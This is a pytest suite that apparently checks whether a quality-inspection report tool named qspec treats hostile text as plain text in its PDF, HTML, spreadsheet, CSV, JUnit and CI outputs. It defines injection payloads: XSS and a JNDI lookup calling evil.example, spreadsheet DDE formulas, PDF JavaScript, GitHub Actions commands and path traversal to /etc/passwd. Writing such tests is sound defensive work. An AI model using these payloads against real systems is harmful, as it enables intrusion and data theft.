"""Hostile text in every field of spec, inspection file, batch data and options: printed or refused, never interpreted.

Each text stands in all fields at once, and every output is read back by a reader of its own format.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re
import unicodedata
import xml.etree.ElementTree as ElementTree
import zipfile
from pathlib import Path

import pikepdf
import pytest

from qspec.cli.app import run

MARKUP = (
    "<img src=https://evil.example/x.png onerror=alert(1)><script>alert(2)</script></para></td></style>&amp;"
    "<a href='javascript:alert(3)'>x</a><!--]]>{{7*7}}${jndi:ldap://evil.example}%s{0}{name}<?php ?>"
)
FORMULA = '=HYPERLINK("https://evil.example","x")'
TEXTS = {
    "markup": MARKUP,
    "formula": FORMULA,
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+2",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "bidi": "abc\u202egnp.exe\u2066x\u2069\u200f\u061c",
    "lines": "x\n::error file=spec.yaml::owned\r\n##[error]owned\n%0A::warning::owned",
    "control": "a\x07\x1b[31mred\x1b[0m\x08\x7f\x9b1mb",
    "nul": "a\x00b",
    "surrogate": "\ud800x\udfff",
    "unassigned": "\ufffe\U0010ffff\ufdd0x",
    "joined": "Z\u0335\u0321\u0334\u0322\u0328\u200d\U0001f469\u200d\U0001f52c\ufe0f\U000e0041",
    "pdf": r"\) Tj ET /JS (app.alert\(1\)) endstream endobj",
    "path": "../../../etc/passwd file:///etc/passwd C:\\NUL",
    "long": "W" * 10_000,
    "長い": "長い名前、" * 600,
}
SHOWN = ("markup", "formula", "sum", "plus", "minus", "pdf", "path")
"""Texts that a reader of the paper can compare letter by letter."""
SPEC = """\
qspec: 1
id: QS-1
revision: @
title: {en: @, ja: @}
part: {number: @, name: {en: @, ja: @}, drawing: @, drawing_revision: @, material: {en: @, ja: @}}
parties:
  buyer: {name: {en: @, ja: @}, address: {en: @, ja: @}, department: {en: @, ja: @}}
  supplier: {name: {en: @, ja: @}, address: {en: @, ja: @}, department: {en: @, ja: @}}
characteristics:
  length:
    kind: dimension
    name: {en: @, ja: @}
    balloon: @
    columns: [value]
    phrase: @
    limit: 10 ±0.1 mm
    source: {file: @, sheet: @, page: @}
    conditions: {temperature: @, note: @}
    method: {en: @, ja: @}
    instrument: {en: @, ja: @}
    basis: @
    note: {en: @, ja: @}
  look:
    kind: attribute
    name: {en: @, ja: @}
    columns: [look]
    limit: OK
    limit_sample: {id: @, valid_until: 2020-01-01, keeper: {en: @, ja: @}, controls: {en: @, ja: @}}
people:
  - {party: buyer, role: {en: @, ja: @}, name: {en: @, ja: @}}
sampling: 100%
"""
BATCH = """\
lot_size: 3
date: 2026-01-05
inspector: @
order: @
instruments:
  - {name: @, serial: @, calibrated: 2020-01-01, due: 2021-01-01}
"""
CHECKS = ("text", "json", "csv", "junit", "github")
PAPERS = ("pdf", "html", "xlsx", "text")
OTHERS = (("first-article", "html"), ("concession", "pdf"))
"""Other papers of the same result, in one form each."""
UNSEEN = frozenset({"Cc", "Cf", "Cs", "Co", "Cn"})


def quoted(text: str) -> str:
    """Return a text as YAML writes it in double quotes; what YAML does not allow stands as its escape."""
    marks = {'"': '\\"', "\\": "\\\\"}
    return '"' + "".join(marks.get(one, one if one.isprintable() else escape(one)) for one in text) + '"'


def escape(character: str) -> str:
    return f"\\u{ord(character):04x}" if ord(character) < 0x10000 else f"\\U{ord(character):08x}"


def put(folder: Path, text: str, *, spec: bool) -> None:
    """Write an inspection file with a text in every cell, and a spec and batch data with it too, or a plain spec."""
    if spec:
        (folder / "spec.yaml").write_text(SPEC.replace("@", quoted(text)), encoding="utf-8")
        (folder / "data.csv.batch.yaml").write_text(BATCH.replace("@", quoted(text)), encoding="utf-8")
    else:
        (folder / "spec.yaml").write_text(SPEC.replace("@", "plain").replace("columns: [look]", ""), encoding="utf-8")
    with (folder / "data.csv").open("w", encoding="utf-8", errors="replace", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["serial", "lot", "value", "look", text])
        writer.writerow([f"{text}1", text, "10.00", "OK", text])
        writer.writerow([f"{text}2", text, "11.00", text, text])
        writer.writerow([f"{text}3", text, text, "NG", text])


def read_out(content: bytes) -> str:
    """Return all text of a PDF as another library reads it."""
    import pypdfium2

    document = pypdfium2.PdfDocument(content)
    try:
        return "\n".join(page.get_textpage().get_text_bounded() for page in document)
    finally:
        document.close()


def judged(text: str) -> tuple[int, dict[str, bytes]]:
    """Return the highest exit code of all outputs, and the outputs there are."""
    codes, made = set(), {}
    both = ["spec.yaml", "data.csv", "--lang", "en", "--inspector", text, "--order", text, "--lot-size", "3"]
    wanted = [("check", one, ["check", *both, "--format", one]) for one in CHECKS]
    wanted += [("report", one, ["report", *both, "--number", text, "--format", one]) for one in PAPERS]
    wanted += [(paper, one, ["report", *both, "--paper", paper, "--format", one]) for paper, one in OTHERS]
    for name, form, command in wanted:
        file = Path(f"out-{name}.{form}")
        codes.add(run([*command, "-o", str(file)]))
        if file.exists():
            made[f"{name}.{form}"] = file.read_bytes()
    return max(codes), made


@pytest.fixture(scope="module", params=[(name, spec) for name in TEXTS for spec in (True, False)], ids=str)
def outputs(request, tmp_path_factory):
    """Give the name of a text and every output of files that hold it wherever they may, or none where it is refused."""
    folder = tmp_path_factory.mktemp("hostile")
    name, spec = request.param
    put(folder, TEXTS[name], spec=spec)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        patch.setenv("SOURCE_DATE_EPOCH", "1767225600")
        code, made = judged(TEXTS[name])
    assert code in (0, 1, 2, 3)
    return name, TEXTS[name], made


def test_it_is_printed_or_refused_and_nothing_breaks(outputs):
    name, _, made = outputs
    every = {f"check.{one}" for one in CHECKS} | {f"report.{one}" for one in PAPERS} | {".".join(one) for one in OTHERS}
    assert made.keys() in (set(), every)
    if name in SHOWN:
        assert made


def test_texts_show_no_control_character_and_no_change_of_direction(outputs):
    _, _, made = outputs
    for name in ("check.text", "report.text", "check.github", "check.csv"):
        shown = made.get(name, b"").decode()
        assert not {one for one in shown if unicodedata.category(one) in UNSEEN} - {"\n", "\r", "\ufeff"}


def test_a_build_server_gets_no_command_of_the_texts(outputs):
    _, _, made = outputs
    for line in made.get("check.github", b"").decode().splitlines():
        assert re.match(r"::(error|warning|notice|debug)( [^:]*)?::|::(group|endgroup)::", line), line[:80]


def test_junit_is_well_formed_and_holds_no_element_of_the_texts(outputs):
    _, _, made = outputs
    if "check.junit" in made:
        tags = {node.tag for node in ElementTree.fromstring(made["check.junit"]).iter()}  # noqa: S314 - our own output
        assert tags <= {
            "testsuites",
            "testsuite",
            "testcase",
            "failure",
            "error",
            "skipped",
            "properties",
            "property",
        } | {
            "system-out",
            "system-err",
        }


class _Seen(html.parser.HTMLParser):
    """What a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self.scripts.append("")
            self._script = True

    def handle_endtag(self, tag: str) -> None:
        self._script = self._script and tag != "script"

    def handle_data(self, data: str) -> None:
        if self._script:
            self.scripts[-1] += data


def test_the_page_runs_and_loads_nothing_of_the_texts(outputs):
    _, _, made = outputs
    for page in (content for name, content in made.items() if name.endswith(".html")):
        seen = _Seen()
        seen.feed(page.decode())
        links = [value for _, held in seen.tags for name, value in held.items() if name in ("src", "href", "action")]
        assert not [link for link in links if link and not link.startswith(("#", "data:"))]
        assert not [name for _, held in seen.tags for name in held if name.startswith("on")]
        assert not [tag for tag, _ in seen.tags if tag in ("img", "iframe", "object", "embed", "base", "form", "para")]
        assert not [script for script in seen.scripts if "alert(" in script]


def test_a_workbook_and_a_table_hold_no_formula(outputs):
    _, _, made = outputs
    if not made:
        return
    with zipfile.ZipFile(io.BytesIO(made["report.xlsx"])) as book:
        for part in book.namelist():
            if part.endswith((".xml", ".rels")):
                tree = ElementTree.fromstring(book.read(part))  # noqa: S314 - our own output
                kinds = {node.tag.rpartition("}")[2] for node in tree.iter()}
                assert not kinds & {"f", "hyperlink", "externalReference", "ddeLink"}, part
                assert not [node for node in tree.iter() if node.get("TargetMode") == "External"]
    for row in csv.reader(io.StringIO(made["check.csv"].decode("utf-8-sig"))):
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell[:60]
            assert not cell.startswith(("+", "-")) or re.fullmatch(r"[+-][\d.]+", cell), cell[:60]


def test_the_result_document_keeps_the_texts_as_they_are(outputs):
    _, text, made = outputs
    if not made:
        return
    document = json.loads(made["check.json"].decode())
    held = json.dumps(document, ensure_ascii=False)
    if document["spec"]["revision"] != "plain":
        assert document["spec"]["revision"] == text
        assert held.count(json.dumps(text, ensure_ascii=False)[1:-1]) > 5


def test_the_paper_does_nothing_and_shows_what_it_was_given(outputs):
    name, text, made = outputs
    for content in (content for name, content in made.items() if name.endswith(".pdf")):
        with pikepdf.Pdf.open(io.BytesIO(content)) as pdf:
            for one in pdf.objects:
                if isinstance(one, pikepdf.Dictionary):
                    assert not {"/JS", "/JavaScript", "/Launch", "/URI", "/AA", "/OpenAction"} & set(one.keys())
                    assert one.get("/S") not in ("/JavaScript", "/URI", "/Launch", "/GoToR", "/ImportData")
        shown = "".join(read_out(content).split())
        # U+FFFE is how the reader tells a hyphen at the end of a line
        assert not {one for one in shown if unicodedata.category(one) in UNSEEN} - {"\ufffe"}
        if name in SHOWN:
            assert "".join(text.split()) in shown


def test_such_a_report_verifies(outputs, tmp_path):
    _, text, made = outputs
    if made and len(text) < 1000:  # the long ones would take most of the time
        report = tmp_path / "report.pdf"
        report.write_bytes(made["report.pdf"])
        assert run(["verify", str(report)]) == 0
